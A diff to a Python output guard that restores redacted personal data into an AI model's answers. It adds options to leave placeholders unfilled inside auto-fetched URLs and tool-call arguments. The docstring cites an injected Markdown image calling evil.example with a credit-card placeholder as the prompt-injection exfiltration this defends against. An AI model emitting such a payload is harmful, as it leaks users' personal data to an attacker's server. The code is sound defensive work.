@@ -35,6 +35,7 @@ from .placeholders import (
     vault_types,
 )
 from .stream import PlaceholderStream
+from .urlspots import UrlKind
 
 
 def restore_placeholders(text: str, vault: Vault | Mapping[str, str], *,
@@ -118,8 +119,14 @@ class PIIRestorer:
     """Output guard: rewrite placeholders back to this request's vault values.
 
     Options: ``entities`` (the types it reads as placeholders, besides those in the vault;
-    default: every type the redactor knows) and ``unknown``: ``"keep"`` (default) or
-    ``"remove"`` placeholders that are not in the vault. They are never filled.
+    default: every type the redactor knows); ``unknown``: ``"keep"`` (default) or
+    ``"remove"`` placeholders that are not in the vault (they are never filled);
+    ``in_fetched_urls``: ``"keep"`` (default) or ``"restore"`` placeholders inside a URL fetched
+    without a click (a Markdown image, ``<img src>``, CSS ``url()``; in tool-call arguments any
+    URL: see :mod:`.urlspots`), so that an injected
+    ``![](https://evil.example/?d=<CREDIT_CARD_1>)`` sends nothing; ``in_links``:
+    ``"restore"`` (default) or ``"keep"`` placeholders inside links and bare URLs (keep them
+    where the UI unfurls link previews). Kept ones are counted in ``Decision.data["kept_in_urls"]``.
     """
 
     name = "pii_restore"
@@ -127,7 +134,8 @@ class PIIRestorer:
     cacheable = False
     soft_budget = True  # bounded CPU work: the budget is checked inline, no thread hop
 
-    def __init__(self, *, entities: Sequence[str] | None = None, unknown: str = "keep") -> None:
+    def __init__(self, *, entities: Sequence[str] | None = None, unknown: str = "keep",
+                 in_fetched_urls: str = "keep", in_links: str = "restore") -> None:
         if entities is not None and (isinstance(entities, str)
                                      or not all(isinstance(e, str) for e in entities)):
             raise ConfigError("must be a list of entity type names", path="entities")
@@ -138,6 +146,16 @@ class PIIRestorer:
         if unknown not in ("keep", "remove"):
             raise ConfigError("must be 'keep' or 'remove'", path="unknown")
         self.unknown: Unknown = "keep" if unknown == "keep" else "remove"
+        options: tuple[tuple[str, str, UrlKind], ...] = (
+            ("in_fetched_urls", in_fetched_urls, "fetched"), ("in_links", in_links, "link"))
+        for key, value, _ in options:
+            if value not in ("keep", "restore"):
+                raise ConfigError(f"must be 'keep' or 'restore', got {value!r}", path=key)
+        self.in_fetched_urls, self.in_links = in_fetched_urls, in_links
+        self.keep_in = frozenset(kind for _, value, kind in options if value == "keep")
+        # in tool-call arguments a link is fetched too: the tool may open it at once
+        link: frozenset[UrlKind] = frozenset(("link",))
+        self.keep_in_tools = self.keep_in | link if "fetched" in self.keep_in else self.keep_in
 
     def _prepare(self, ctx: Context) -> tuple[dict[str, str], PlaceholderSyntax]:
         table = dict(ctx.vault.items())
@@ -145,10 +163,11 @@ class PIIRestorer:
 
     def __call__(self, text: str, ctx: Context) -> Decision:
         table, syntax = self._prepare(ctx)
-        res = restore_text(text, table, syntax, self.unknown)
+        res = restore_text(text, table, syntax, self.unknown, keep_in=self.keep_in)
         structured = False
         if ctx.structured is not None:
-            ctx.structured, structured = self._fill(ctx.structured, table, syntax, res)
+            ctx.structured, structured = self._fill(ctx.structured, table, syntax, res,
+                                                    self.keep_in)
         tools = False
         for call in ctx.tool_calls:  # the answer's tool-call arguments
             args = call.get("arguments")
@@ -156,18 +175,19 @@ class PIIRestorer:
             # JSON-escaped, as in streamed arguments
             raw_json = isinstance(args, str) and args.lstrip()[:1] in ("{", "[")
             call["arguments"], changed = self._fill(
-                args, table, syntax.json_variant() if raw_json else syntax, res)
+                args, table, syntax.json_variant() if raw_json else syntax, res,
+                self.keep_in_tools)
             tools = tools or changed
         return _decision(text, res, structured, tools)
 
     def _fill(self, obj: Any, table: dict[str, str], syntax: PlaceholderSyntax,
-              res: RestoreResult) -> tuple[Any, bool]:
+              res: RestoreResult, keep_in: frozenset[UrlKind]) -> tuple[Any, bool]:
         """``obj`` with every string inside restored; ``res`` collects what was restored or
         unknown; the flag says whether any placeholder was met."""
         parts: list[RestoreResult] = []
 
         def fill(s: str) -> str:
-            r = restore_text(s, table, syntax, self.unknown)
+            r = restore_text(s, table, syntax, self.unknown, keep_in=keep_in)
             parts.append(r)
             return r.text
 
@@ -175,24 +195,29 @@ class PIIRestorer:
         for r in parts:
             res.restored.update(r.restored)
             res.unknown.extend(r.unknown)
-        return new, any(r.restored or r.unknown for r in parts)
+            res.kept.update(r.kept)
+        return new, any(r.restored or r.unknown or r.kept for r in parts)
 
     def start_stream(self, ctx: Context) -> PlaceholderStream:
         """Restore a streamed answer chunk by chunk (bounded holdback)."""
         table, syntax = self._prepare(ctx)
-        return PlaceholderStream(table, syntax, self.unknown)
+        return PlaceholderStream(table, syntax, self.unknown, keep_in=self.keep_in)
 
     def start_args_stream(self, ctx: Context) -> PlaceholderStream:
         """Restore one streamed tool call's JSON argument fragments: values are inserted
         JSON-escaped, since the placeholders sit inside JSON strings."""
         table, syntax = self._prepare(ctx)
-        return PlaceholderStream(table, syntax, self.unknown, json_strings=True)
+        return PlaceholderStream(table, syntax, self.unknown, json_strings=True,
+                                 keep_in=self.keep_in_tools)
 
 
 def _decision(text: str, res: RestoreResult, structured: bool, tools: bool = False) -> Decision:
     data: dict[str, Any] = {"restored": _counts(res.restored)}
     if res.unknown:
         data["unknown_placeholders"] = res.unknown[:MAX_REPORTED]
+    kept = sum(res.kept.values())
+    if kept:
+        data["kept_in_urls"] = _counts(res.kept)
     if structured:
         data["structured"] = True
     if tools:
@@ -200,12 +225,12 @@ def _decision(text: str, res: RestoreResult, structured: bool, tools: bool = Fal
     if res.text != text:
         n = sum(res.restored.values())
         return Decision.rewrite(res.text, f"restored {n} placeholder(s)"
-                                + (f", {len(res.unknown)} unknown" if res.unknown else ""),
-                                **data)
-    if res.unknown or structured or tools:
-        return Decision.allow(
-            f"{len(res.unknown)} unknown placeholder(s)" if res.unknown else "restored fields",
-            fired=True, **data)
+                                + (f", {len(res.unknown)} unknown" if res.unknown else "")
+                                + (f", kept {kept} in URLs" if kept else ""), **data)
+    if res.unknown or kept or structured or tools:
+        notes = [f"{len(res.unknown)} unknown placeholder(s)"] if res.unknown else []
+        notes += [f"kept {kept} placeholder(s) in URLs"] if kept else []
+        return Decision.allow(", ".join(notes) or "restored fields", fired=True, **data)
     return Decision.allow()
 
 
